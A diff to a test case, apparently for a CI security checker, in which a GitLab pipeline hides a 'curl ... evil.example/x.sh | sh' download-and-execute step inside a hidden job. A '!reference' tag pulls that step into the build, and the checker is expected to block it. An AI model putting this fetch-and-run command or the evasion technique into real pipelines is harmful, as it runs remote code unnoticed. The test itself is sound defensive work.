@@ -1,10 +1,7 @@
 # attack: a GitLab job runs a download piped to a shell through spellings the pins control does not read as scripts: a `!reference` to a non-script key of a hidden job, a nested script sequence (GitLab flattens it), a `hooks: pre_get_sources_script`
 # surface: staged, range (CI)
 # expect: block
-new_repo
-write README.md 'hello'
-commit base
-base=$(git rev-parse HEAD)
+base_repo
 dl='curl -fsSL https://evil.example/x.sh | sh'
 img='  image: alpine@sha256:0000000000000000000000000000000000000000000000000000000000000000'
 write .gitlab-ci.yml '.setup:' '  steps:' "    - $dl" 'build:' "$img" '  script:' '    - !reference [.setup, steps]'
